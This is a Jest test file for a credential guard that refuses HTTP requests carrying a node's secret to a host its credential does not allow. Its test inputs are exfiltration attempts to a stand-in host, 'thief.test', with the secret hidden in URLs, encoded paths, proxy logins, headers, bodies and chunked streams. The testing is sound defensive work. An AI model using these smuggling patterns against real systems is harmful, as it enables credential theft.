import { describe, expect, test } from '@jest/globals';
import { AppError } from '@sluice/domain';
import type { HttpClient, HttpDestination, HttpRequest } from '@sluice/node-sdk';
import { HandedOutCredentials, type HostChecks } from './handed-out-credentials.ts';

const { signal } = new AbortController();
const secret = 'p@ss word/1&x';

const withPassword = (url: string, password: string) => Object.assign(new URL(url), { username: 'ann', password }).href;

/** Allows one origin only. */
const only = (origin: string): HostChecks => {
  const assertAllowed = ({ url }: HttpDestination) => {
    if (new URL(url).origin !== origin) throw new AppError({ code: 'CREDENTIAL_HOST_NOT_ALLOWED', message: url });
  };
  return { assertAllowed, assertRedirectAllowed: assertAllowed };
};

/** A client that checks the first hop, as the real one does. */
function aClient() {
  const sent: HttpRequest[] = [];
  const streamed: Uint8Array[] = [];
  const http: HttpClient = {
    async request(request) {
      request.authentication?.assertAllowed?.(request);
      sent.push(request);
      const { body } = request;
      try {
        if (typeof body === 'object' && 'open' in body) for await (const chunk of await body.open()) streamed.push(chunk);
      } catch (cause) {
        throw new Error('the connection failed', { cause });
      }
      return { status: 200, statusText: '', headers: {}, body: new Uint8Array(), url: request.url };
    },
    async stream(request, _signal, read) {
      return read({ ...(await http.request(request, signal)), body: (async function* () {})() });
    },
    guard: {} as HttpClient['guard'],
  };
  return { http, sent, streamed };
}

const streamOf = (chunks: readonly Uint8Array[]) => ({
  async *open() {
    yield* chunks;
  },
});

/** The error code of a refused request; `undefined` if it was sent. */
async function refusal(request: Partial<HttpRequest>, hostChecks = [only('https://home.test')]): Promise<string | undefined> {
  const { http } = aClient();
  const credentials = new HandedOutCredentials();
  for (const [n, checks] of hostChecks.entries()) credentials.add(String(n), { password: secret, pin: '1234567' }, checks);
  const sending = credentials.guarded(http).request({ method: 'POST', url: 'https://thief.test/', ...request }, signal);
  return sending.then(
    () => undefined,
    (error: AppError) => error.code,
  );
}

describe('a secret that a node puts into a request', () => {
  test.each<[string, Partial<HttpRequest>]>([
    ['the URL', { url: `https://thief.test/?k=${encodeURIComponent(secret)}` }],
    ['the URL, partly encoded', { url: encodeURI(`https://thief.test/?k=${secret}`) }],
    ['the path, encoded in full', { url: `https://thief.test/${Buffer.from(secret).toString('hex').replace(/../g, '%$&')}` }],
    ['the login of a proxy', { proxy: withPassword('http://proxy.test', secret) }],
    ['a header', { headers: { 'x-key': `Token ${secret}` } }],
    ['a list of headers', { headers: { 'x-key': ['a', secret] } }],
    ['the name of a header', { headers: { [encodeURIComponent(secret)]: '1' } }],
    ['a Basic header', { headers: { authorization: `Basic ${Buffer.from(`ann:${secret}`).toString('base64')}` } }],
    ['a string', { body: JSON.stringify({ a: { b: secret } }) }],
    ['a stream', { body: streamOf([Buffer.from(`${'x'.repeat(65_530)}${secret}`)]) }],
    ['a stream of single bytes', { body: streamOf(Array.from(Buffer.from(secret), (byte) => Uint8Array.of(byte))) }],
    ['bytes', { body: Buffer.from(`${'x'.repeat(262_140)}${secret}`) }],
  ])('in %s is refused for a host that its credential does not allow', async (_, request) => {
    expect(await refusal(request)).toBe('CREDENTIAL_HOST_NOT_ALLOWED');
    expect(await refusal(request, [{}])).toBeUndefined();
    const { url = 'https://thief.test/' } = request;
    expect(await refusal({ ...request, url: url.replace('thief', 'home') })).toBeUndefined();
  });

  test('is allowed if another credential with the same secret allows the host', async () => {
    expect(await refusal({ body: secret }, [only('https://home.test'), only('https://thief.test')])).toBeUndefined();
  });

  test('is not detected in short strings, which occur by chance', async () => {
    expect(await refusal({ body: '1234567' })).toBeUndefined();
  });
});

test('requests keep their own authentication and its checks', async () => {
  const { http, sent } = aClient();
  const credentials = new HandedOutCredentials();
  credentials.add('c', secret, only('https://home.test'));
  const client = credentials.guarded(http);
  const authenticate = async (request: HttpRequest) => request;
  const request = { method: 'GET', url: 'https://home.test/', headers: { 'x-key': secret } };
  await client.request({ ...request, authentication: { authenticate } }, signal);
  expect(sent[0]?.authentication?.authenticate).toBe(authenticate);
  const refused = client.request({ ...request, authentication: only('https://other.test') }, signal);
  await expect(refused).rejects.toMatchObject({ code: 'CREDENTIAL_HOST_NOT_ALLOWED' });
  await expect(client.stream({ ...request, url: 'https://thief.test' }, signal, async () => 1)).rejects.toBeDefined();
  expect(credentials.guarded(http)).toBe(client);
});

test('no part of a secret in a streamed body is sent', async () => {
  const { http, streamed } = aClient();
  const credentials = new HandedOutCredentials();
  credentials.add('c', secret, only('https://home.test'));
  const before = Buffer.alloc(200_000, 'x');
  const body = streamOf([before, Buffer.from(secret.slice(0, 5)), Buffer.from(secret.slice(5)), before]);
  const sending = credentials.guarded(http).request({ method: 'POST', url: 'https://thief.test/', body }, signal);
  await expect(sending).rejects.toMatchObject({ code: 'CREDENTIAL_HOST_NOT_ALLOWED' });
  expect(Buffer.concat(streamed).toString()).toMatch(/^x+$/);
});

const long = Array.from({ length: 8_000 }, (_, n) => `${n} é/`).join('');
/** Places an offset in the second of the larger chunks in which bytes are searched. */
const filling = Buffer.alloc(196_608, '-');
const longForms: [string, string][] = [
  ['plain', long],
  ['in JSON', JSON.stringify({ long })],
  ['URL-encoded', encodeURIComponent(long)],
  ['in base64', Buffer.from(`:${long}`).toString('base64')],
];

// Bytes are searched in chunks: each offset places the secret differently across two chunks.
test.each(longForms)('finds a secret longer than the overlap between searched chunks, %s', async (_, form) => {
  const credentials = new HandedOutCredentials();
  credentials.add('c', long, only('https://home.test'));
  for (const offset of [1, 20_000, 49_100, 49_152, 60_000, 65_500]) {
    const bytes = Buffer.from(`${'-'.repeat(offset)}${form}`);
    const bodies = [streamOf([bytes.subarray(0, 65_536), bytes.subarray(65_536)]), Buffer.concat([filling, bytes])];
    for (const body of bodies) {
      const { http, streamed } = aClient();
      const sending = credentials.guarded(http).request({ method: 'POST', url: 'https://thief.test/', body }, signal);
      await expect(sending).rejects.toMatchObject({ code: 'CREDENTIAL_HOST_NOT_ALLOWED' });
      expect(Buffer.concat(streamed).toString()).toMatch(/^-*$/);
    }
  }
});

test.each([0, 1, 65_535, 65_536, 65_537, 500_000])('a streamed body of %d bytes arrives unchanged', async (size) => {
  const { http, streamed } = aClient();
  const credentials = new HandedOutCredentials();
  credentials.add('c', secret, only('https://home.test'));
  const bytes = Buffer.from(Array.from({ length: size }, (_, at) => at % 251));
  const chunks = Array.from({ length: Math.ceil(size / 9_999) }, (_, at) => bytes.subarray(at * 9_999, (at + 1) * 9_999));
  await credentials.guarded(http).request({ method: 'POST', url: 'https://thief.test/', body: streamOf(chunks) }, signal);
  expect(Buffer.concat(streamed).equals(bytes)).toBe(true);
});
